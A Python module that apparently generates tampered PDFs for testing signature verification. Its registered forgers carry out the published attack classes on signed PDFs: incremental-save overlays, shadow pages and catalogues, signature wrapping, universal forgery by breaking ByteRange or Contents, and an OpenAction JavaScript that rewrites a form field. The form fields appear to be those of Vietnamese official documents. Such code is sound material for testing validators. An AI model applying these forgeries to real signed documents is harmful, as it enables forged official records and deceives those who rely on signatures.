"""Forgers of signed documents: each takes one and gives back what an attacker would show instead.

The classes are those of the published attacks on PDF signatures: incremental saving, universal forgery, signature
wrapping, shadows prepared before the signature, and evil annotations in certified documents.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer

name, words = generic.pdf_name, generic.pdf_string
Forger = Callable[[bytes], bytes]
FORGERS: dict[str, Forger] = {}
BOX = [100, 600, 400, 700]


def forger(what: str) -> Callable[[Forger], Forger]:
    """Registers a forger under what it does."""

    def keep(make: Forger) -> Forger:
        FORGERS[what] = make
        return make

    return keep


def _edited(pdf: bytes, edit: Callable[[IncrementalPdfFileWriter, Any], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    edit(writer, writer.find_page_for_modification(0)[0].get_object())
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _look(writer: IncrementalPdfFileWriter, text: bytes) -> Any:
    helvetica = generic.DictionaryObject(
        {name("/Type"): name("/Font"), name("/Subtype"): name("/Type1"), name("/BaseFont"): name("/Helvetica")}
    )
    fonts = generic.DictionaryObject({name("/F1"): writer.add_object(helvetica)})
    stream = generic.StreamObject(
        {
            name("/Type"): name("/XObject"),
            name("/Subtype"): name("/Form"),
            name("/BBox"): generic.ArrayObject(generic.NumberObject(side) for side in (0, 0, 300, 100)),
            name("/Resources"): generic.DictionaryObject({name("/Font"): fonts}),
        },
        stream_data=b"1 g 0 0 300 100 re f 0 g BT /F1 20 Tf 5 40 Td (" + text + b") Tj ET",
    )
    return writer.add_object(stream)


def _annotated(kind: str, flags: int = 4) -> Forger:
    def forge(pdf: bytes) -> bytes:
        def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
            note = generic.DictionaryObject(
                {
                    name("/Type"): name("/Annot"),
                    name("/Subtype"): name(kind),
                    name("/Rect"): generic.ArrayObject(generic.NumberObject(side) for side in BOX),
                    name("/Contents"): words("1.000.000.000"),
                    name("/F"): generic.NumberObject(flags),
                    name("/AP"): generic.DictionaryObject({name("/N"): _look(writer, b"1.000.000.000")}),
                }
            )
            page[name("/Annots")] = generic.ArrayObject([*page.get("/Annots", ()), writer.add_object(note)])
            writer.update_container(page)

        return _edited(pdf, edit)

    return forge


FORGERS["a note over the text"] = _annotated("/FreeText")
FORGERS["a stamp over the text"] = _annotated("/Stamp")
FORGERS["a redaction over the text"] = _annotated("/Redact")
FORGERS["a hidden square"] = _annotated("/Square", flags=2)


@forger("page content replaced")
def _content(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
        page[name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b"0 g 100 100 200 200 re f"))
        writer.update_container(page)

    return _edited(pdf, edit)


@forger("page content appended")
def _appended(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
        more = writer.add_object(generic.StreamObject(stream_data=b"0 g 100 100 200 200 re f"))
        page[name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), more])
        writer.update_container(page)

    return _edited(pdf, edit)


@forger("a page turned over")
def _rotated(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
        page[name("/Rotate")] = generic.NumberObject(180)
        writer.update_container(page)

    return _edited(pdf, edit)


@forger("the page cropped")
def _cropped(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
        page[name("/CropBox")] = generic.ArrayObject(generic.NumberObject(side) for side in (0, 400, 595, 842))
        writer.update_container(page)

    return _edited(pdf, edit)


@forger("a font replaced, so that other letters are seen")
def _font(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
        fonts = page["/Resources"]["/Font"]
        key = next(iter(fonts))
        fonts[key] = generic.DictionaryObject(
            {name("/Type"): name("/Font"), name("/Subtype"): name("/Type1"), name("/BaseFont"): name("/Symbol")}
        )
        writer.update_container(fonts)

    return _edited(pdf, edit)


@forger("all pages exchanged for a page prepared before (shadow, replaced)")
def _shadow_replace(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, page: Any) -> None:
        pages = writer.root["/Pages"]
        other = generic.DictionaryObject(
            {
                name("/Type"): name("/Page"),
                name("/Parent"): writer.root.raw_get("/Pages"),
                name("/MediaBox"): page["/MediaBox"] if "/MediaBox" in page else pages["/MediaBox"],
                name("/Contents"): writer.add_object(generic.StreamObject(stream_data=b"0 0 99 99 re f")),
            }
        )
        pages[name("/Kids")] = generic.ArrayObject([writer.add_object(other)])
        pages[name("/Count")] = generic.NumberObject(1)
        writer.update_container(pages)

    return _edited(pdf, edit)


@forger("another catalogue (shadow, hidden and replaced)")
def _shadow_root(pdf: bytes) -> bytes:
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = max(int(found) for found in re.findall(rb"/Size (\d+)", pdf))
    at = len(pdf) + 1
    entry = b"\n%d 0 obj\n<</Type/Catalog/Pages %d 0 R>>\nendobj\n" % (size, size + 1)
    pages = b"%d 0 obj\n<</Type/Pages/Count 0/Kids[]>>\nendobj\n" % (size + 1)
    table = b"xref\n%d 2\n%010d 00000 n \n%010d 00000 n \n" % (size, at, len(pdf) + len(entry))
    tail = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + entry + pages + table + tail % (size + 2, size, start, len(pdf) + len(entry) + len(pages))


@forger("a layer that hides content (shadow, hidden)")
def _layers(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, _page: Any) -> None:
        group = writer.add_object(generic.DictionaryObject({name("/Type"): name("/OCG"), name("/Name"): words("x")}))
        groups = generic.ArrayObject([group])
        off = generic.DictionaryObject({name("/OFF"): groups})
        writer.root[name("/OCProperties")] = generic.DictionaryObject({name("/OCGs"): groups, name("/D"): off})
        writer.update_root()

    return _edited(pdf, edit)


@forger("an action on opening")
def _action(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, _page: Any) -> None:
        writer.root[name("/OpenAction")] = generic.DictionaryObject(
            {name("/S"): name("/JavaScript"), name("/JS"): words("this.getField('SoVanBan').value='99'")}
        )
        writer.update_root()

    return _edited(pdf, edit)


def _field(pdf: bytes, key: str, edit: Callable[[IncrementalPdfFileWriter, Any], None]) -> bytes:
    def find(writer: IncrementalPdfFileWriter, _page: Any) -> None:
        for row in writer.root["/AcroForm"]["/Fields"]:
            field = row.get_object()
            if field.get("/T") == key:
                edit(writer, field)
                writer.update_container(field)

    return _edited(pdf, find)


@forger("the number changed after the seal")
def _number(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, field: Any) -> None:
        field[name("/V")] = words("Số: 99/QĐ-UBND")
        field[name("/AP")] = generic.DictionaryObject({name("/N"): _look(writer, b"99")})

    return _field(pdf, "SoVanBan", edit)


@forger("only the number's look changed after the seal")
def _number_look(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, field: Any) -> None:
        field[name("/AP")] = generic.DictionaryObject({name("/N"): _look(writer, b"99")})

    return _field(pdf, "SoVanBan", edit)


@forger("the day's field moved over the text")
def _moved(pdf: bytes) -> bytes:
    def edit(_writer: IncrementalPdfFileWriter, field: Any) -> None:
        field[name("/Rect")] = generic.ArrayObject(generic.NumberObject(side) for side in BOX)

    return _field(pdf, "NgayBanHanh", edit)


@forger("the leader's signature drawn otherwise")
def _signature_look(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, field: Any) -> None:
        field[name("/AP")] = generic.DictionaryObject({name("/N"): _look(writer, b"Another")})

    return _field(pdf, "LanhDao", edit)


@forger("a signature taken out of the form")
def _removed(pdf: bytes) -> bytes:
    def edit(writer: IncrementalPdfFileWriter, _page: Any) -> None:
        form = writer.root["/AcroForm"]
        rows = form["/Fields"]
        form[name("/Fields")] = generic.ArrayObject(row for row in rows if row.get_object().get("/T") != "CoQuan")
        writer.update_container(form)

    return _edited(pdf, edit)


@forger("the covered range with a gap for more (wrapping)")
def _gap(pdf: bytes) -> bytes:
    found = list(re.finditer(rb"/ByteRange \[\s*0 (\d+) (\d+) (\d+)", pdf))[-1]
    before, _after, length = (int(part) for part in found.groups())
    return (
        pdf[: found.start(1)]
        + str(before).encode()
        + pdf[found.end(1) : found.start(3)]
        + (str(length - 40).encode().ljust(len(found[3])))
        + pdf[found.end(3) :]
    )


@forger("content squeezed in after the signature's value (wrapping)")
def _wrapped(pdf: bytes) -> bytes:
    found = list(re.finditer(rb"/Contents <[0-9A-Fa-f]+>", pdf))[-1]
    return pdf[: found.end() - 60] + b">/X(0123456789)" + pdf[found.end() - 45 :]


@forger("no covered range at all (universal forgery)")
def _no_range(pdf: bytes) -> bytes:
    return re.sub(rb"/ByteRange \[", b"/BytXRange [", pdf)


@forger("an empty signature value (universal forgery)")
def _no_value(pdf: bytes) -> bytes:
    return re.sub(rb"/Contents <[0-9A-Fa-f]+>", lambda found: b"/Contents <" + b"0" * (len(found[0]) - 12) + b">", pdf)


@forger("a covered range of nothing (universal forgery)")
def _null_range(pdf: bytes) -> bytes:
    return re.sub(
        rb"/ByteRange \[[\d ]+\]", lambda found: (b"/ByteRange [0 0 0 0").ljust(len(found[0]) - 1) + b"]", pdf
    )


@forger("a cross-reference table that points into the signature")
def _xref(pdf: bytes) -> bytes:
    inside = list(re.finditer(rb"/Contents <", pdf))[-1].end()
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = re.findall(rb"/Root (\d+) 0 R", pdf)[-1]
    size = max(int(found) for found in re.findall(rb"/Size (\d+)", pdf))
    table = b"xref\n%s 1\n%010d 00000 n \n" % (root, inside)
    tail = b"trailer\n<</Size %d/Root %s 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start, len(pdf))
    return pdf + table + tail


@forger("the last revision cut off and another put in its place")
def _rewritten(pdf: bytes) -> bytes:
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(pdf), strict=False))
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()
